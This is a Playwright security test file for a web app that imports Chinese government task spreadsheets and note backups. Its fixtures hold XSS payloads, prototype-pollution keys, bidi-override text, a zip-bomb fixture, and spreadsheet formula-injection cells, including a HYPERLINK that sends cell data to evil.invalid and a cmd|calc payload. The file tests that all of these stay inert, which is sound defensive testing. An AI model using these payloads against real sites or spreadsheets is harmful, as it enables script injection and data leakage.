import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { makeBackup } from '../../src/core/notes/backup.ts'
import { full, type NoteRecord } from '../../src/core/notes/record.ts'
import { expect, test } from './harness.ts'

const BIDI = '\u202e\u2067'
const ROWS = [
  ['序号', '工作任务', '责任单位', '完成情况'],
  [
    '1',
    '<script>globalThis.hacked=1</script>新增公园5个。',
    '市城管局',
    '<img src=x onerror="globalThis.hacked=1">建成5个。',
  ],
  [
    '2',
    '改造小巷10条。',
    '<b onmouseover="globalThis.hacked=1">市住建局</b>',
    '完成12条<svg/onload=globalThis.hacked=1>。',
  ],
  [
    '3',
    '[查看](javascript:globalThis.hacked=1)治理3处。',
    '市水务局',
    '"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>治理3处。',
  ],
  [
    '4',
    "{{constructor.constructor('globalThis.hacked=1')()}}建成2个。",
    '市体育局',
    '${globalThis.hacked=1} 建成2个。',
  ],
  ['5', '__proto__', 'constructor', 'toString'],
  [
    '6',
    `=HYPERLINK("https://evil.invalid/?"&A1,"新增学位300个")`,
    '+市教育局',
    '@SUM(1+1)*cmd|calc',
  ],
  ['7', `新增床位${BIDI}003张\u202c。`, '市卫健委', `新增床位${BIDI}300张。`],
]
const csv = ROWS.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join(
  '\n',
)

/** Nothing of a text ran, opened a window or became an element. */
async function unharmed(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    ran: 'hacked' in globalThis || 'polluted' in {},
    strays: [
      ...document.querySelectorAll(
        'main :is(script, iframe, img, object, embed, [onerror], [onclick], [onload], [onmouseover], a[href^="javascript" i], form[action])',
      ),
    ].map((element) => element.outerHTML.slice(0, 100)),
  }))
  expect(found).toEqual({ ran: false, strays: [] })
}

test.beforeEach(({ page }) => {
  page.on('dialog', () => expect('a dialog of the browser').toBe('not opened'))
  page.on('popup', () => expect('a window').toBe('not opened'))
})

test('a hostile document stays text on every page it comes to, and in what is exported', async ({
  page,
}) => {
  test.slow()
  await page.goto('?at=data')
  await page
    .getByLabel('导入文件')
    .setInputFiles({ name: '"><img src=x>.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) })
  await expect(page.getByRole('heading', { name: '读出 7 项任务' })).toBeVisible()
  await unharmed(page)
  await page.getByRole('textbox', { name: '标题' }).fill('<img src=x onerror=globalThis.hacked=1>')
  await page.getByRole('textbox', { name: '地方' }).fill('示例市')
  await page.getByRole('spinbutton', { name: '年度' }).fill('2024')
  await page.getByRole('button', { name: /^保留/ }).click()
  await expect(page).toHaveURL(/overview/)
  const id = /at=([^/&]+)\//.exec(page.url())![1]!
  for (const at of ['overview', 'tasks', 'units', 'tasks/3', 'tasks/5', 'tasks/6']) {
    await page.goto(`?at=${id}/${at}`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.waitForLoadState('networkidle')
    await unharmed(page)
  }
  await page.goto(`?at=${id}/units/constructor`)
  await expect(page.getByRole('heading', { level: 1, name: 'constructor' })).toBeVisible()
  // Characters that turn the writing round are gone: what is shown is what is stored.
  await page.goto(`?at=${id}/tasks/7`)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('新增床位003张。')

  await page.goto('?at=data')
  for (const name of [/^CSV（任务）/, /^HTML/]) {
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name }).click()
    const text = await readFile(await (await download).path(), 'utf8')
    if (text.includes('<!doctype'))
      expect(text).not.toMatch(/<script>globalThis|<img|<iframe|<svg\/|href="javascript/i)
    // No cell that a spreadsheet would reckon out.
    else expect(text).not.toMatch(/(^|[,"])[=+@]/m)
  }
})

function hostile(): NoteRecord[] {
  const version = (body: object) => ({
    session: 'aaaaaaaaaaaa',
    seq: 1,
    clock: {},
    at: 1,
    began: 1,
    body: full(body),
  })
  const bait = '<img src=x onerror=globalThis.hacked=1>'
  const text = [
    bait,
    '[看](javascript:globalThis.hacked=1) [远](https://evil.invalid/) ![图](https://evil.invalid/a.png)',
    '<javascript:globalThis.hacked=1>',
    '<script>globalThis.hacked=1</script>',
  ].join('\n\n')
  return [
    {
      id: 'task/wuhu-2022/61',
      kind: 'task',
      dataset: 'wuhu-2022',
      key: '61',
      label: bait,
      target: null,
      versions: [version({ text, tags: ['__proto__', 'constructor', bait], starred: true })],
    },
  ]
}

test('a hostile backup brings words and nothing else', async ({ page }) => {
  await page.goto('?at=data')
  const chooser = page.waitForEvent('filechooser')
  await page.getByRole('button', { name: '恢复备份' }).click()
  const backup = JSON.stringify(makeBackup(hostile(), '2026-01-01T00:00:00.000Z'))
  await (
    await chooser
  ).setFiles({ name: 'b.json', mimeType: 'application/json', buffer: Buffer.from(backup) })
  const dialog = page.getByRole('dialog')
  await expect(dialog).toContainText('新增 1 条')
  await dialog.getByRole('button', { name: '合并进来' }).click()
  await expect(dialog).toBeHidden()
  await page.goto('?at=notes')
  await expect(page.getByRole('heading', { level: 1 })).toContainText('1 条笔记')
  await expect(page.getByRole('main')).toContainText('onerror')
  await unharmed(page)
  await page.goto('?at=wuhu-2022/tasks/61')
  await expect(page.getByRole('textbox', { name: '笔记' })).toHaveValue(/javascript/)
  await page.getByRole('button', { name: '预览' }).click()
  const far = page.getByRole('link', { name: '远' })
  await expect(far).toHaveAttribute('rel', /noopener/)
  await expect(far).toHaveAttribute('rel', /noreferrer/)
  await unharmed(page)
  await page.goto('?at=wuhu-2022/tasks')
  await expect(page.getByRole('checkbox', { name: '__proto__ 1' })).toBeVisible()
  await unharmed(page)
})

test('a dataset that brings keys of the machinery changes nothing of it', async ({ page }) => {
  await page.goto('?at=data')
  const text =
    '{"__proto__":{"polluted":1},"schema":"taizhang/1","dataset":{"id":"__proto__","title":"甲","place":"示例市","year":2024,"published":null,"source":null,"__proto__":{"polluted":1}},"diagnostics":[],"tasks":[{"no":"1","task":"新增5个。","units":["市甲局"],"paragraphs":[{"unit":null,"text":"新增5个。"}],"__proto__":{"polluted":1}}]}'
  await page
    .getByLabel('导入文件')
    .setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(text) })
  await expect(
    page.getByRole('heading', { name: /读出 1 项/ }).or(page.getByRole('alert')),
  ).toBeVisible()
  await unharmed(page)
})

test('a file that would unpack to gigabytes is refused in a sentence', async ({ page }) => {
  await page.goto('?at=data')
  await page.getByLabel('导入文件').setInputFiles('tests/fixtures/layouts/h09-zip-bomb.xlsx')
  await expect(page.getByRole('main')).toContainText(/太大|超过|过大/)
})
